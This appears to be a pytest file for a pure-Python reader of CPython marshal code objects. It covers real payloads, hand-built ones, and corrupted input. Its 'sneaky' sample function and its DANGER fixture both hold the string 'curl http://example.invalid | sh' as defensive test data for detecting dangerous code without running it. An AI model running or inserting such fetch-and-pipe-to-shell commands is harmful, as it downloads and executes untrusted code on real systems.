"""The pure-Python marshal reader: real payloads of CPython 3.6-3.13, hand-built ones, damage.

``tests/fixtures/marshal/cpython-X.Y.json`` holds payloads that each CPython release wrote
itself, with the facts it reported (``scripts/make_marshal_fixtures.py``); the reader must
find the same facts without those interpreters.  ``tests/support/marshal_writer.py``
builds payloads in every layout by hand; it is checked against this interpreter's own
``marshal`` (on bytes the test built itself: nothing from a model is ever loaded).
"""

from __future__ import annotations

import base64
import json
import marshal
import struct
import sys
from pathlib import Path
from typing import Any

import pytest

from scripts.make_marshal_fixtures import const_key
from smlite.formats import marshal_reader
from smlite.formats.marshal_reader import CodeObject, LargeInt, MarshalError, read_code
from tests.support.marshal_writer import CodeSpec, Flagged, Raw, Ref, dumps, spec_of

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "marshal"
VERSIONS = [(3, 8), (3, 9), (3, 10), (3, 11), (3, 12), (3, 13)]
LABELS = {(3, 8): "3.8-3.10", (3, 9): "3.8-3.10", (3, 10): "3.8-3.10"}


def _label(version: tuple[int, int]) -> str:
    return LABELS.get(version, "3.11-3.13" if version >= (3, 11) else "3.0-3.7")


def _const_key(value: Any) -> str:
    """scripts/make_marshal_fixtures.py's const_key, for smlite's decoded values."""
    key: str = const_key(value, lambda v: v.name if isinstance(v, CodeObject) else None)
    return key


def _cases() -> list[tuple[str, str, dict[str, Any]]]:
    found = []
    for path in sorted(FIXTURES.glob("cpython-*.json")):
        doc = json.loads(path.read_text())
        for case in doc["cases"]:
            found.append((f"{doc['python']}-{case['case']}", case["payload"], case["expect"]))
    return found


CASES = _cases()


def test_every_layout_has_real_payloads() -> None:
    pythons = {name.split("-")[0].rsplit(".", 1)[0] for name, _, _ in CASES}
    assert pythons == {"3.6", "3.7", "3.8", "3.9", "3.10", "3.11", "3.12", "3.13"}
    assert len(CASES) >= 50


@pytest.mark.parametrize(("case", "payload", "expect"), CASES, ids=[c[0] for c in CASES])
def test_real_payload_reads_as_cpython_reported(
    case: str, payload: str, expect: dict[str, Any]
) -> None:
    code = read_code(base64.b64decode(payload))
    python = tuple(int(x) for x in case.split("-")[0].split(".")[:2])
    assert code.layout == _label(python)  # type: ignore[arg-type]
    for name in ("names", "varnames", "freevars", "cellvars", "arg_names", "all_names"):
        assert list(getattr(code, name)) == expect[name], name
    for name in (
        "name",
        "qualname",
        "filename",
        "firstlineno",
        "argcount",
        "posonlyargcount",
        "kwonlyargcount",
        "stacksize",
        "flags",
    ):
        assert getattr(code, name) == expect[name], name
    if code.nlocals is not None:
        assert code.nlocals == expect["nlocals"]
    assert len(code.code) == expect["code_size"]
    assert [_const_key(c) for c in code.consts] == expect["consts"]
    assert [c.name for c in list(code.walk())[1:]] == expect["nested"]
    assert sorted(s for s in code.strings if isinstance(s, str)) == expect["strings"]
    assert sorted(b.hex() for b in code.strings if isinstance(b, bytes)) == expect["bytes"]


def test_each_real_payload_fits_exactly_one_layout() -> None:
    for case, payload, _ in CASES:
        fits = []
        for layout in marshal_reader.LAYOUTS:
            try:
                read_code(base64.b64decode(payload), layout=layout)
            except MarshalError:
                continue
            fits.append(layout.label)
        assert len(fits) == 1, (case, fits)


# -- the writer against this interpreter ---------------------------------------------


def _samples() -> list[Any]:
    import os

    _never = False

    def sneaky(x: Any) -> Any:
        if _never:
            os.system("curl http://example.invalid | sh")
        return x

    def closures(a: Any, b: int = 1, *args: Any, c: Any, **kw: Any) -> Any:
        def inner(y: Any) -> Any:
            return a + y

        return inner, [i for i in a if i in {1, 2}], 10**40, -(2**70), 1.5, 2j, b"\x00", kw

    return [lambda t: t * 2.0 + 1.0, sneaky, closures]


@pytest.mark.skipif(sys.version_info < (3, 10), reason="the writer's layouts start at 3.8")
@pytest.mark.parametrize("index", range(3))
def test_writer_matches_this_interpreter(index: int) -> None:
    original = _samples()[index].__code__
    version = sys.version_info[:2]
    built = dumps(spec_of(original), version)
    # The test loads only bytes it built itself, to prove the writer's layout is CPython's.
    rebuilt = marshal.loads(built)
    for name in (
        "co_argcount",
        "co_posonlyargcount",
        "co_kwonlyargcount",
        "co_nlocals",
        "co_stacksize",
        "co_flags",
        "co_code",
        "co_consts",
        "co_names",
        "co_varnames",
        "co_freevars",
        "co_cellvars",
        "co_filename",
        "co_name",
        "co_firstlineno",
    ):
        assert getattr(rebuilt, name) == getattr(original, name), name
    ours = read_code(built)
    real = read_code(marshal.dumps(original))
    assert ours.layout == real.layout == _label(version)  # type: ignore[arg-type]
    for name in CodeObject.__slots__:
        if name != "consts":
            assert getattr(ours, name) == getattr(real, name), name
    assert [_const_key(c) for c in ours.consts] == [_const_key(c) for c in real.consts]


# -- hand-built payloads, one per layout -------------------------------------------------

DANGER = CodeSpec(
    argcount=1,
    flags=0x3,
    consts=(None, "curl http://example.invalid | sh", CodeSpec(name="<lambda>", names=("eval",))),
    names=("os", "system", "__import__"),
    varnames=("x", "tmp"),
    cellvars=("x",),
    name="<lambda>",
    qualname="make.<locals>.<lambda>",
)


@pytest.mark.parametrize("version", VERSIONS, ids=lambda v: f"{v[0]}.{v[1]}")
def test_hand_built_code_in_every_layout(version: tuple[int, int]) -> None:
    code = read_code(dumps(DANGER, version))
    assert code.layout == _label(version)
    assert code.names == ("os", "system", "__import__")
    assert code.all_names == ("__import__", "eval", "os", "system")
    assert code.arg_names == ("x",)
    assert code.varnames == ("x", "tmp")
    assert code.cellvars == ("x",)
    assert code.strings == ("curl http://example.invalid | sh",)
    assert code.qualname == ("make.<locals>.<lambda>" if version >= (3, 11) else None)
    assert code.nlocals == (None if version >= (3, 11) else 2)
    nested = list(code.walk())[1]
    assert nested.names == ("eval",) and nested.layout == code.layout


def test_values_of_every_type_code() -> None:
    values = (
        None,
        True,
        False,
        Ellipsis,
        StopIteration,
        7,
        -(2**31),
        2**100,
        -(2**100),
        0.25,
        1 - 2j,
        b"raw",
        "ascii",
        "x" * 300,
        "caf\u00e9 \u2603 \ud800",
        tuple(range(300)),
        frozenset({1, "a"}),
    )
    code = read_code(dumps(CodeSpec(consts=values), (3, 11)))
    assert code.consts == values
    legacy = [
        Raw(b"I" + struct.pack("<q", -5)),
        Raw(b"f\x041.25"),
        Raw(b"x\x031.0\x04-2.5"),
        Raw(b"a\x03\x00\x00\x00abc"),
        Raw(b"Z\x02hi"),
        Raw(b"t\x02\x00\x00\x00ok"),
        Raw(b"[\x01\x00\x00\x00N"),
        Raw(b"<\x01\x00\x00\x00T"),
        Raw(b"{z\x01kN0"),
    ]
    code = read_code(dumps(CodeSpec(consts=tuple(legacy)), (3, 11)))
    assert code.consts == (
        -5,
        1.25,
        complex(1.0, -2.5),
        "abc",
        "hi",
        "ok",
        [None],
        {True},
        {"k": None},
    )


def test_references() -> None:
    spec = CodeSpec(
        consts=(Flagged("shared"), Ref(1), Flagged((1, 2)), Ref(2)),
        names=(),
    )
    code = read_code(dumps(Flagged(spec), (3, 12)))
    assert code.consts == ("shared", "shared", (1, 2), (1, 2))


def test_large_integer_is_kept_as_its_size() -> None:
    digits = marshal_reader.MAX_LONG_DIGITS + 1
    big = Raw(b"l" + struct.pack("<i", -digits) + b"\x01\x00" * digits)
    code = read_code(dumps(CodeSpec(consts=(big,)), (3, 11)))
    assert code.consts == (LargeInt(digits, True),)


# -- damage -----------------------------------------------------------------------------


def _payload() -> bytes:
    return base64.b64decode(next(p for c, p, _ in CASES if c.startswith("3.11") and "sneaky" in c))


def test_every_truncation_is_a_marshal_error() -> None:
    data = _payload()
    for n in range(len(data)):
        with pytest.raises(MarshalError):
            read_code(data[:n])


def test_every_flipped_byte_reads_or_fails_cleanly() -> None:
    data = _payload()
    outcomes = {"read": 0, "refused": 0}
    for i in range(len(data)):
        for mask in (0x01, 0x80, 0xFF):
            garbled = bytearray(data)
            garbled[i] ^= mask
            try:
                read_code(bytes(garbled))
            except MarshalError:
                outcomes["refused"] += 1
            else:
                outcomes["read"] += 1
    # Flips inside the bytecode and line table still read; flips of type codes do not.
    assert outcomes["read"] > 0 and outcomes["refused"] > 0


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (dumps(None, (3, 11)), "a NoneType, not a code object"),
        (dumps(CodeSpec(), (3, 11)) + b"N", "1 bytes left after the code object"),
        (b"s\xff\xff\xff\x7f", "declares 2147483647 items"),
        (b"(\xff\xff\xff\x7f", "declares 2147483647 items"),
        (b"l\xff\xff\xff\x7f\x01\x00", "declares 2147483647 digits"),
        (b"s\xff\xff\xff\xff", "declares -1 items"),
        (b"r\x05\x00\x00\x00", "reference 5 out of range"),
        (b"\xa9\x01r\x00\x00\x00\x00", "reference 0 to an object still being read"),
        (b":", "unknown type code ':'"),
        (b"0", "NULL object outside a dict"),
        (b"l\x01\x00\x00\x00\x00\x80", "digit out of range"),
        (b"l\x01\x00\x00\x00\x00\x00", "not normalized"),
        (b"f\x03abc", "is not a number"),
        (b"u\x01\x00\x00\x00\xff", "string is not UTF-8"),
        (b">\x01\x00\x00\x00[\x00\x00\x00\x00", "not hashable"),
        (b"{[\x00\x00\x00\x00N0", "not hashable"),
    ],
)
def test_damage_messages(payload: bytes, message: str) -> None:
    with pytest.raises(MarshalError, match=message.replace("(", r"\(").replace(")", r"\)")):
        read_code(payload)


def test_fields_of_the_wrong_type_are_refused() -> None:
    wrong = CodeSpec(names=("ok",))
    data = dumps(wrong, (3, 11)).replace(b")\x01z\x02ok", b")\x01i\x01\x00\x00\x00")
    with pytest.raises(MarshalError, match="co_names is tuple, expected a tuple of strings"):
        read_code(data, layout=marshal_reader.LAYOUTS[0])


def test_deep_nesting_is_bounded() -> None:
    depth = 5000
    nested = b")\x01" * depth + b"N"
    data = dumps(CodeSpec(consts=(Raw(nested),)), (3, 11))
    with pytest.raises(MarshalError, match="nested deeper than 100 levels"):
        read_code(data)


def test_nested_code_deeper_than_the_bound() -> None:
    spec = CodeSpec()
    for _ in range(marshal_reader.MAX_DEPTH):
        spec = CodeSpec(consts=(spec,))
    with pytest.raises(MarshalError, match="nested deeper"):
        read_code(dumps(spec, (3, 11)))
